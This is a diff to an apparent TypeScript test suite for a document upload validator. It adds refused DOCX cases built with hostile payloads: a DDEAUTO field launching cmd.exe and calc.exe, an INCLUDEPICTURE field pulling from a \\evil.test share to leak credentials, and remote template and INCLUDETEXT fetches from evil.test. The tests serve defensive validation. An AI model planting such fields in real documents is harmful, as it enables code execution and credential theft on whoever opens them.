@@ -40,6 +40,20 @@ const file = (label: string, name: string, bytes: Case['bytes']): Case => ({ lab
 /** pandoc's DOCX with these parts added or replaced. */
 const docxWith = (parts: () => hostile.ZipEntry[] | Promise<hostile.ZipEntry[]>) => async () =>
   hostile.docxWith(real.docx, await parts());
+/** pandoc's part `name` with `xml` inserted before `tag` (its section properties, its closing tag). */
+async function partWith(name: string, tag: string, xml: string): Promise<hostile.ZipEntry> {
+  const current = (await hostile.readZip(real.docx)).find((entry) => entry.name === name);
+  const text = current?.data?.toString('utf8') ?? '';
+  if (!text.includes(tag)) throw new Error(`pandoc wrote no ${tag} in ${name}`);
+  return { name, data: Buffer.from(text.replace(tag, `${xml}${tag}`)) };
+}
+/** A paragraph with a field as Word writes one: begin, instruction runs, separate, result, end. */
+const fieldParagraph = (...instructions: string[]) =>
+  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions
+    .map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`)
+    .join(
+      '',
+    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
 /** The settings part naming the document's template, as Word writes it. */
 const templateAt = (target: string): hostile.ZipEntry[] => [
   {
@@ -68,7 +82,11 @@ const accepted: Case[] = [
     'propuesta.pdf',
     () => real.libreofficePdf,
   ),
-  file('a DOCX written by pandoc, with a web link', 'propuesta.docx', () => real.docx),
+  file(
+    'a DOCX written by pandoc, with a web link and a table of contents (a TOC field)',
+    'propuesta.docx',
+    () => real.docx,
+  ),
   file('a Word 97 DOC written by LibreOffice', 'propuesta.doc', () => real.doc),
   file('a screenshot PNG taken by Chromium', 'captura.png', screenshot),
   file('a phone photo: JPEG with EXIF, GPS and a thumbnail', 'IMG_0412.jpg', photo),
@@ -155,6 +173,44 @@ const refused: Case[] = [
           `<Relationship TargetMode='&#69;xternal' Target='\\\\evil.test\\share\\t.dotm' Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>`,
         ),
       },
+    ]),
+  ),
+  file(
+    'a DOCX whose remote template’s address holds a > (allowed inside a quoted value)',
+    'factura.docx',
+    docxWith(() => templateAt('https://evil.test/plantilla.dotm#>')),
+  ),
+  file(
+    'a DOCX with a DDEAUTO field (its instructions split across runs) that runs a program on opening',
+    'factura.docx',
+    docxWith(async () => [
+      await partWith(
+        'word/document.xml',
+        '<w:sectPr',
+        fieldParagraph(' DDE', String.raw`AUTO c:\windows\system32\cmd.exe "/k calc.exe" `),
+      ),
+    ]),
+  ),
+  file(
+    'a DOCX with an INCLUDEPICTURE field fetching from a network share (a credential leak)',
+    'factura.docx',
+    docxWith(async () => [
+      await partWith(
+        'word/document.xml',
+        '<w:sectPr',
+        fieldParagraph(String.raw`INCLUDEPICTURE "\\evil.test\share\logo.png" \d `),
+      ),
+    ]),
+  ),
+  file(
+    'a DOCX with an INCLUDETEXT field fetching a web page, in its footnotes',
+    'factura.docx',
+    docxWith(async () => [
+      await partWith(
+        'word/footnotes.xml',
+        '</w:footnotes>',
+        `<w:footnote w:id="9">${fieldParagraph('INCLUDETEXT "https://evil.test/t.docx" ')}</w:footnote>`,
+      ),
     ]),
   ),
   ...(
